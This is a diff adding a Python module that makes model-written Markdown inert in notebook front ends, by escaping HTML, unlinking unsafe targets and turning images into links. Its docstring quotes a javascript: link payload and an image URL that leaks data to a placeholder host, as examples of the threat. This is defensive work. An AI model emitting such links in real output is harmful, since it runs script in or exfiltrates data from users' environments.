@@ -1,0 +1,152 @@
+"""Model-written Markdown made inert for front ends that render ``text/markdown`` as is.
+
+Where nbstream's front end runs (JupyterLab, Notebook 7), answers and the chat transcript
+are rendered from nbstream's own MIME types through a sanitizing path. Everywhere else —
+GitHub, nbconvert, VS Code, a JupyterLab without the extension — the ``text/markdown``
+copy is shown, and a reopened notebook is trusted: its Markdown may be rendered without
+a sanitizer. A model's ``[x](javascript:alert(1))`` would then be a live link and its
+``![a](http://host/leak?data=…)`` fetched on every open. So this copy is defanged:
+
+- raw HTML is escaped (``<`` becomes ``&lt;``, ``&`` becomes ``&amp;``): shown as text;
+- a link keeps its target only if it is ``http(s)`` or ``mailto`` (an inline link's
+  ``(`` or a reference definition's ``[`` is escaped otherwise, so it reads as text);
+- an image is written as a link to it (``🖼 [alt](url)``): nothing is fetched.
+
+Code spans and fenced code blocks are left exactly as written: Markdown already shows
+them literally. A small function rather than a Markdown library: nbstream depends on
+none, and it only needs to find code, ``](``, ``![`` and definitions — constructs a
+line-based scan finds; ``tests/test_safe_markdown.py`` checks the result with real
+renderers (nbconvert's, markdown-it-py's), including adversarial inputs.
+"""
+
+from __future__ import annotations
+
+import re
+
+_FENCE = re.compile(r"^( {0,3})(`{3,}|~{3,})(.*)$")
+_SAFE_TARGET = re.compile(r"[ \t]*\n?[ \t]*<?(https?://|mailto:)", re.IGNORECASE)
+# An unescaped `](` (an inline link's or image's target follows) …
+_TARGET_OPEN = re.compile(r"(?<!\\)((?:\\\\)*)\]\(")
+# … an unescaped `![` (an image) …
+_IMAGE = re.compile(r"(?<!\\)((?:\\\\)*)!\[(\]?)")
+# … and a link reference definition at the start of a line.
+_DEFINITION = re.compile(r"^( {0,3})\[([^\]\n]+)\]:", re.MULTILINE)
+
+
+def defang(markdown: str) -> str:
+    """``markdown`` with raw HTML escaped, unsafe links unlinked and images as links.
+
+    Only what is surely code to any CommonMark renderer is left alone: a fenced block
+    whose opening fence starts the line (one indented 1–3 spaces may sit in a list item
+    that ends before its closing fence), and code spans within one line. Anything else
+    is treated as text: at worst an entity shows inside code, never a live link.
+    """
+    out: list[str] = []
+    prose: list[str] = []
+    opener: tuple[str, bool] | None = None  # (fence, its content is surely code)
+    for line in markdown.split("\n"):
+        fence = _FENCE.match(line)
+        if opener is None:
+            if fence is not None and _opens(fence):
+                opener = (fence.group(2), fence.group(1) == "")
+                out.extend(_flush(prose))
+            prose.append(line)
+            continue
+        if fence is not None and _closes(fence, opener[0]):
+            prose.append(line)
+            opener = None
+            continue
+        if opener[1]:
+            out.extend(_flush(prose))
+            out.append(line)
+        else:
+            prose.append(line)
+    out.extend(_flush(prose))
+    return "\n".join(out)
+
+
+def escape_html(text: str) -> str:
+    """``&`` and ``<`` as entities: Markdown shows them, HTML never sees a tag."""
+    return text.replace("&", "&amp;").replace("<", "&lt;")
+
+
+def _opens(fence: re.Match[str]) -> bool:
+    # A backtick fence's info string cannot contain a backtick (then it is a code span).
+    return not (fence.group(2)[0] == "`" and "`" in fence.group(3))
+
+
+def _closes(fence: re.Match[str], opener: str) -> bool:
+    run = fence.group(2)
+    return run[0] == opener[0] and len(run) >= len(opener) and fence.group(3).strip(" \t") == ""
+
+
+def _flush(prose: list[str]) -> list[str]:
+    if not prose:
+        return []
+    lines = [_defang_line(line) for line in prose]
+    prose.clear()
+    return ["\n".join(lines)]
+
+
+def _defang_line(line: str) -> str:
+    """One line, its code spans kept as they are (CommonMark's rule: equal runs)."""
+    pieces: list[str] = []
+    text_start = 0
+    i = 0
+    while i < len(line):
+        char = line[i]
+        if char == "\\":
+            i += 2
+            continue
+        if char != "`":
+            i += 1
+            continue
+        end = i
+        while end < len(line) and line[end] == "`":
+            end += 1
+        close = _closing_run(line, end, end - i)
+        if close is None:
+            i = end
+            continue
+        pieces.append(_defang_text(line[text_start:i]))
+        pieces.append(line[i:close])
+        text_start = i = close
+    pieces.append(_defang_text(line[text_start:]))
+    return "".join(pieces)
+
+
+def _closing_run(line: str, start: int, length: int) -> int | None:
+    """Where the backtick run of exactly ``length`` after ``start`` ends, if any."""
+    i = start
+    while i < len(line):
+        if line[i] != "`":
+            i += 1
+            continue
+        end = i
+        while end < len(line) and line[end] == "`":
+            end += 1
+        if end - i == length:
+            return end
+        i = end
+    return None
+
+
+def _defang_text(text: str) -> str:
+    text = _IMAGE.sub(lambda m: f"{m.group(1)}🖼 [{'image' if m.group(2) else ''}{m.group(2)}", text)
+    text = _TARGET_OPEN.sub(_link_target, text)
+    text = _DEFINITION.sub(_definition, text)
+    return escape_html(text)
+
+
+def _link_target(match: re.Match[str]) -> str:
+    after = match.string[match.end() :]
+    if _SAFE_TARGET.match(after):
+        return match.group(0)
+    return f"{match.group(1)}]\\("
+
+
+def _definition(match: re.Match[str]) -> str:
+    after = match.string[match.end() :]
+    if _SAFE_TARGET.match(after):
+        return match.group(0)
+    return f"{match.group(1)}\\[{match.group(2)}]:"
